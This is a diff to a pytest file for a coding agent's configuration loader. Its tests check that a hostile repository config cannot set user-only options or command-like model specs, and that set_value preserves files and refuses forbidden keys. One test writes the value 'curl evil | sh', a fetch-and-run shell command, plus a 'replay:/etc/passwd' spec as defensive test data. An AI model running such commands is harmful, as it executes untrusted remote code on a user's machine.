@@ -1,14 +1,15 @@
-"""The layers: who wins, what is refused, and what a hostile repository gets."""
+"""The layers of configuration: who wins, what is refused, and how a value is set."""
 
 from __future__ import annotations
 
 import json
+import os
 import re
 from pathlib import Path
 
 import pytest
 
-from repoagent.config.layers import load
+from repoagent.config.layers import load, set_value
 from repoagent.config.options import OPTIONS
 from repoagent.config.settings import Settings
 from repoagent.errors import Refused, UsageError
@@ -18,7 +19,7 @@ from tests.conftest import GitRepo
 
 @pytest.fixture
 def layout(tmp_path: Path) -> Layout:
-    """That of `repo`, if the test names it before; otherwise there is no repository."""
+    """The layout of `repo`, if the test names it before; otherwise there is no repository."""
     (tmp_path / "repo").mkdir(exist_ok=True)
     return Layout(tmp_path / "repo" / ".repoagent", tmp_path / "repo" / ".git")
 
@@ -65,7 +66,7 @@ def test_each_layer_wins_over_the_one_before(
     assert (settings.number_or_none("max_cost"), settings.switch("commit.trailers")) == (None, False)
 
 
-OWN = """
+NOT_SHARED = """
 protocol models.x.protocol check check.timeout check.unconfined edit.scope edit.sensitive edit.parse_check
 run.network run.browse run.write run.processes run.memory run.timeout sent.keep_days
 conversations.keep_days color commit.trailer fallback summary.model review.model history.background effort
@@ -74,15 +75,12 @@ run.before_turn run.after_edit run.before_finish run.allow run.deny run.tools ru
 models.x.output models.x.cache_read models.x.cache_write models.x.context models.x.max_output
 models.x.media models.x.format
 """
-HOSTILE = OWN.split()
+HOSTILE = NOT_SHARED.split()
 
 
-def test_every_option_a_repository_may_not_set_is_in_the_hostile_file() -> None:
-    mine = {o.key for o in OPTIONS if not o.repository_may_set}
+def test_a_hostile_repository_sets_no_option_of_the_user_and_is_named_once(layout: Layout) -> None:
+    mine = {option.key for option in OPTIONS if not option.repository_may_set}
     assert {re.sub(r"\.x(?=\.|$)", ".*", key) for key in HOSTILE} == mine
-
-
-def test_a_hostile_repository_sets_none_of_it_and_is_named_once(layout: Layout) -> None:
     # `check` has a value, so a key below it is one key, in quotes
     keys = [f'"{key}"' if key.startswith("check.") else key for key in HOSTILE]
     settings = shared(layout, "".join(f"{key} = 'curl evil | sh'\n" for key in keys))
@@ -95,33 +93,20 @@ def test_a_hostile_repository_sets_none_of_it_and_is_named_once(layout: Layout) 
     assert shared(layout, "check = 3\nmodels.x.input = []").warnings  # not errors
 
 
-@pytest.mark.parametrize("spelled", ["CHECK", "Check", "ch-eck", '"che_ck"'])
-def test_another_spelling_is_no_way_round(layout: Layout, spelled: str) -> None:
-    settings = shared(layout, f"{spelled} = 'evil'")
-    assert settings["check"] is None
-    assert len(settings.warnings) == 1
+def test_another_spelling_is_no_way_round(layout: Layout) -> None:
+    for spelled in ("CHECK", "Check", "ch-eck", '"che_ck"'):
+        settings = shared(layout, f"{spelled} = 'evil'")
+        assert (settings["check"], len(settings.warnings)) == (None, 1)
 
 
-@pytest.mark.parametrize(
-    ("key", "value", "allowed"),
-    [
-        *(
-            ("model", spec, False)
-            for spec in ("command:evil", "local/evil.gguf", "replay:/etc/passwd", "./x/y", "x")
-        ),
-        ("model", "openai/gpt-x", True),
-        *(("run.mode", mode, False) for mode in ("ask", "auto-edit", "auto")),
-        ("run.mode", "read-only", True),
-    ],
-)
-def test_a_repository_may_choose_a_provider_s_model_and_read_only_runs(
-    layout: Layout, key: str, value: str, allowed: bool
-) -> None:
-    settings = shared(layout, f"{key} = {value!r}")
-    if allowed:
-        assert settings[key] == value
-    else:
-        assert settings.origin(key) == "default" and f"{key} = {value!r}" in settings.warnings[0]
+def test_a_repository_may_choose_a_provider_s_model_and_read_only_runs(layout: Layout) -> None:
+    commands = ("command:evil", "local/evil.gguf", "replay:/etc/passwd", "./x/y", "x")
+    allowed = {"model": "openai/gpt-x", "run.mode": "read-only"}
+    for key, others in (("model", commands), ("run.mode", ("ask", "auto-edit", "auto"))):
+        assert shared(layout, f"{key} = {allowed[key]!r}")[key] == allowed[key]
+        for value in others:
+            settings = shared(layout, f"{key} = {value!r}")
+            assert settings.origin(key) == "default" and f"{key} = {value!r}" in settings.warnings[0]
 
 
 @pytest.mark.parametrize(
@@ -167,28 +152,25 @@ def test_a_configuration_that_is_a_link_is_refused(layout: Layout, tmp_path: Pat
         load(layout, tmp_path)
 
 
-BAD = [
-    ("max_turns", "0", "an integer, 1 or more"),
-    ("max_turns", "many", "an integer, 1 or more"),
-    ("max_cost", "-1", "a number, 0 or more, or none"),
-    ("max_cost", "nan", "a number, 0 or more, or none"),
-    ("commit__trailers", "maybe", "true or false"),
-    ("edit__scope", "all", "files, neighbors or repo"),
-    ("commit__trailer", "Helped by", "the name of a trailer"),
-    ("model", " ", "PROVIDER/NAME"),
-]
-
-
-@pytest.mark.parametrize(("name", "value", "allowed"), BAD)
+@pytest.mark.parametrize(
+    ("name", "value", "allowed"),
+    [
+        ("max_turns", "0", "an integer, 1 or more"),
+        ("max_turns", "many", "an integer, 1 or more"),
+        ("max_cost", "-1", "a number, 0 or more, or none"),
+        ("max_cost", "nan", "a number, 0 or more, or none"),
+        ("commit__trailers", "maybe", "true or false"),
+        ("edit__scope", "all", "files, neighbors or repo"),
+        ("commit__trailer", "Helped by", "the name of a trailer"),
+        ("model", " ", "PROVIDER/NAME"),
+    ],
+)
 def test_an_invalid_value_names_origin_key_value_and_allowed_values(
-    tmp_path: Path, name: str, value: str, allowed: str
+    name: str, value: str, allowed: str
 ) -> None:
-    place = f"REPOAGENT_{name.upper()}"
-    with pytest.raises(UsageError) as caught:
-        load(None, tmp_path, env={place: value})
-    message = str(caught.value)
-    assert message.startswith(f"{place}: invalid value {value!r} for {name.replace('__', '.')}")
-    assert allowed in message
+    variable, key = f"REPOAGENT_{name.upper()}", name.replace("__", ".")
+    with pytest.raises(UsageError, match=rf"^{variable}: invalid value {value!r} for {key}.*{allowed}"):
+        load(None, env={variable: value})
 
 
 @pytest.mark.parametrize(
@@ -248,3 +230,69 @@ def test_a_file_of_configuration_has_a_limit(layout: Layout, clean_environment: 
     user(clean_environment, "# more\n" * 200_000)
     with pytest.raises(UsageError, match="larger than 1024 KiB"):
         load(None)
+
+
+# Setting a value: the rest of the file stays as its owner wrote it.
+
+
+def test_comments_order_and_other_values_stay(tmp_path: Path) -> None:
+    path = tmp_path / "config.toml"
+    path.write_text("# mine\nmax_turns = 3  # few\n\n[commit]\ntrailers = true\n# the end\n")
+    for key, value in (("max_turns", "4"), ("commit.trailers", "off"), ("model", "openai/x")):
+        set_value(path, key, value)
+    assert path.read_text() == (
+        '# mine\nmax_turns = 4  # few\nmodel = "openai/x"\n\n[commit]\ntrailers = false\n# the end\n'
+    )
+
+
+@pytest.mark.parametrize(
+    ("before", "key", "text", "after"),
+    [
+        ("", "models.openai/gpt-4.1.input", "2.5", '[models."openai/gpt-4.1"]\ninput = 2.5\n'),
+        ("", "context", "a.md\nb.md", 'context = ["a.md", "b.md"]\n'),
+        ("", "max_cost", "none", 'max_cost = "none"\n'),
+        ("", "maxTokens", "1k", "max_tokens = 1024\n"),
+        ("maxTurns = 3\n", "max_turns", "4", "maxTurns = 4\n"),
+        ("commit.trailers = true\n", "commit.trailers", "off", "commit.trailers = false\n"),
+        ("commit.trailers = true\n", "commit.trailer", "By", 'commit.trailers = true\ncommit.trailer = "By"\n'),
+        ("commit = { trailers = true }\n", "commit.trailers", "off", "commit = { trailers = false }\n"),
+    ],
+)  # fmt: skip
+def test_how_it_is_written(tmp_path: Path, before: str, key: str, text: str, after: str) -> None:
+    path = tmp_path / "config.toml"
+    path.write_text(before)
+    set_value(path, key, text)
+    assert path.read_text() == after
+
+
+@pytest.mark.parametrize(
+    ("before", "key", "text", "says"),
+    [
+        ("", "modle", "x", "did you mean model"),
+        ("", "max_turns", "many", "invalid value 'many' for max_turns"),
+        ("commit = 3", "commit.trailers", "off", "commit must be a table"),
+        ("a = ", "max_turns", "3", "not valid TOML"),
+        ("\udcff", "max_turns", "3", "not valid TOML"),
+    ],
+)
+def test_a_refusal_leaves_the_file_as_it_was(
+    tmp_path: Path, before: str, key: str, text: str, says: str
+) -> None:
+    path = tmp_path / "config.toml"
+    path.write_bytes(os.fsencode(before))
+    with pytest.raises(UsageError, match=says):
+        set_value(path, key, text)
+    assert path.read_bytes() == os.fsencode(before)
+
+
+def test_a_forbidden_key_is_not_written_to_the_repository_s_file(tmp_path: Path) -> None:
+    for key, value in (("check", "make test"), ("model", "command:x"), ("edit.scope", "repo")):
+        with pytest.raises(UsageError, match=f"git config repoagent.{key}"):
+            set_value(tmp_path / "config.toml", key, value, repository=True)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_the_user_s_file_is_private(tmp_path: Path) -> None:
+    path = tmp_path / "new" / "config.toml"
+    set_value(path, "max_turns", "3")
+    assert path.stat().st_mode & 0o777 == 0o600
